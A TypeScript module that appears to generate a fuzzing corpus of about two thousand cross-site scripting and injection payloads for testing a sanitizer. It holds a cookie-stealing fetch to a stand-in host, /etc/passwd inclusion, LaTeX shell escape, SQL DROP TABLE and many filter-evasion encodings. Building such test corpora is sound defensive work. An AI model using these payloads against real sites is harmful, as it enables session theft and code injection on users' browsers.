/** What an attacker would have run. Each either calls the trap, opens a dialog, or speaks to another machine. */
const DEEDS = [
  "__ran(1)",
  "alert(1)",
  "self['al'+'ert'](1)",
  "window.name='ran'",
  "document.title='ran'",
  "import('//evil.invalid/x.js')",
  "fetch('//evil.invalid/'+document.cookie)",
  "(()=>{throw top.__ran(1)})()",
];

/** In which shapes texts have been taken for a program: tags, attributes, addresses, styles, templates, and so on. */
const SHAPES: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<script type=module>${deed}</script>`,
  (deed) => `<script src="data:text/javascript,${deed}"></script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src=x:x onerror=${deed} class=ran>`,
  (deed) => `<svg onload="${deed}"></svg>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><a href="javascript:${deed}"><text y=20>x</text></a></svg>`,
  (deed) => `<math><mtext><style><img src=x onerror="${deed}"></style>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<embed src="data:image/svg+xml,<svg onload='${deed}'/>">`,
  (deed) => `<details open ontoggle="${deed}">x</details>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<form action="javascript:${deed}"><button>x</button></form>`,
  (deed) => `<button formaction="javascript:${deed}">x</button>`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `<a href="  java\tscript:${deed}">x</a>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<link rel=stylesheet href="//evil.invalid/${encodeURIComponent(deed)}">`,
  (deed) => `<base href="//evil.invalid/"><i>${deed}</i>`,
  (deed) => `<style>@import "//evil.invalid/${encodeURIComponent(deed)}";</style>`,
  (deed) => `<p style="background:url(//evil.invalid/${encodeURIComponent(deed)})">x</p>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<xss style="animation-name:x" onanimationstart="${deed}">`,
  (deed) => `" onmouseover="${deed}" x="`,
  (deed) => `' autofocus onfocus='${deed}' x='`,
  (deed) => `\` onclick=\`${deed}\``,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `vbscript:${deed}`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `#{${deed}} <%= ${deed} %>`,
  (deed) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${deed}>"}}}`,
  (deed) => `';${deed};//`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `[x](javascript:${deed}) ![x](x "onerror=${deed}")`,
  (deed) => `#link("javascript:${deed}")[x] #eval("${deed}")`,
  (deed) => `= Heading #include "/etc/passwd" $ ${deed} $ #set page(width: 1pt)`,
  (deed) => `\\input{/etc/passwd} \\write18{${deed}}`,
  (deed) => `=HYPERLINK("//evil.invalid/${deed}","x")`,
  (deed) => `x'); DROP TABLE client; -- ${deed}`,
];

const inCapitals = (text: string): string =>
  `<B>${text}`.replaceAll(/<\/?[a-z]+/g, (tag) =>
    [...tag].map((letter, at) => (at % 2 === 0 ? letter : letter.toUpperCase())).join(""),
  );

/** How the same is hidden from whoever looks for it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  inCapitals,
  (text) => `"'></title></textarea></script></style>-->${text}`,
  (text) => `&lt;${text.replaceAll(/<(\w+) /g, "<$1/\u000c\n").replaceAll("javascript:", "jav&#x09;ascript&colon;")}`,
  (text) =>
    `\u202e\ufeff${text.replaceAll("<", "\u200b<").replaceAll("onerror", "onerror\u3000")}\uff1cscript\uff1e\u2066`,
];

/** Two thousand texts, each of which has been run as a program somewhere. */
export const PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) =>
  SHAPES.flatMap((shape) => DEEDS.map((deed) => disguise(shape(deed)))),
);
